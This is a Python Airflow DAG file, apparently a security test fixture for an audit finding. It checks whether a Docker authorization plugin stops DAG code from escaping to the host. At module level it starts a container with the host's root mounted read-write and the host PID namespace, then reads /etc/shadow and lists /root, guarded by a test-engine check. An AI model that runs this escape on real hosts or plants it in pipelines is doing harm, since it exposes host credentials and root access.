"""Finding H1 of issue 27: a DAG file's own code asks the worker's Docker engine for the host.

Airflow's task runner imports the DAG file in the task process, which holds the worker's Docker socket: this file's
module level starts a container with the host's ``/`` mounted and the host's PID namespace, next to an ordinary
Docker GPU task. It tries only when ``AIRFLOW_GPU_TEST_ESCAPE`` names the engine it may try it on, the same one as
``DOCKER_HOST`` (tests/backends/docker/test_docker_authz.py: the second engine, with the authorization plugin);
parsed anywhere else, it tries nothing.
"""

from __future__ import annotations

import datetime
import os

from airflow.sdk import DAG

from airflow_gpu_provider import ImageSettings, gpu_task

IMAGE = os.environ.get("AIRFLOW_GPU_TEST_BASE_IMAGE", "airflow-gpu-base:bookworm")
ESCAPE = "not tried"
if os.environ.get("AIRFLOW_GPU_TEST_ESCAPE") and os.environ.get("AIRFLOW_GPU_TEST_ESCAPE") == os.environ.get(
    "DOCKER_HOST"
):
    import docker

    try:
        output = docker.from_env().containers.run(
            IMAGE,
            ["sh", "-c", "head -c 40 /host/etc/shadow; ls /host/root"],
            volumes={"/": {"bind": "/host", "mode": "rw"}},
            pid_mode="host",
            remove=True,
        )
        ESCAPE = f"escaped: {output.decode(errors='replace')}"
    except docker.errors.APIError as err:
        ESCAPE = f"refused: {err.explanation}"
    print(f"H1 module-level escape: {ESCAPE}", flush=True)

with DAG("docker_escape", schedule=None, start_date=datetime.datetime(2024, 1, 1)):

    @gpu_task(backend="docker", image=ImageSettings(parent_image=IMAGE), gpu_count=1, on_missing_gpu="cpu")
    def ordinary(escape: str) -> dict:
        return {"escape": escape, "ran": True}

    ordinary(ESCAPE)
